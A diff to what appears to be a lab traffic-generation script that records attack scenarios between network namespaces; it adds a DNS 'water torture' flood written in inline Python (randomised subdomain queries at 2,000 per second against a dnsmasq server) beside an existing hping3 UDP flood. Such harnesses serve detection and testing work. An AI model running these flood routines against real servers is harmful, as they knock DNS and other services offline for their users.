@@ -1881,6 +1881,28 @@ scn_udp_flood_nfs_port_dns_hping3() {
 	inns evil timeout 3 hping3 -q -2 -s 2049 -k -p 53 -E "$tmp/query.bin" -d "$(stat -c %s "$tmp/query.bin")" --flood "$nas" >/dev/null 2>&1 || true
 	local p; for p in $(ip netns pids "$P-nas"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done
 }
+# A random-subdomain ("water torture") flood at the NAS's dnsmasq, which
+# holds the zone victim.lab (--local: NXDOMAIN for any name not in it):
+# python from one socket on the attacker, 2,000 queries a second for 6 s,
+# each a fresh random label of 6 to 12 letters and digits under victim.lab
+# and a random ID, reading the answers as they come (session 21).
+scn_dns_water_torture_python() {
+	spawn nas dnsmasq -k --no-resolv --no-hosts --port=53 --listen-address=$nas --bind-interfaces --local=/victim.lab/ --address=/printer.lab/$nas
+	sleep 1
+	inns evil "$py" -c 'import random, socket, string, struct, time
+abc = (string.ascii_lowercase + string.digits).encode()
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 40053)); s.setblocking(False)
+t0, n = time.time(), 0
+while time.time() - t0 < 6:
+    label = bytes(random.choice(abc) for _ in range(random.randint(6, 12)))
+    q = struct.pack(">6H", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x06victim\x03lab\x00\x00\x01\x00\x01"
+    s.sendto(q, ("'$nas'", 53)); n += 1
+    try:
+        while True: s.recv(512)
+    except BlockingIOError: pass
+    time.sleep(max(0, n / 2000 - (time.time() - t0)))'
+	local p; for p in $(ip netns pids "$P-nas"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
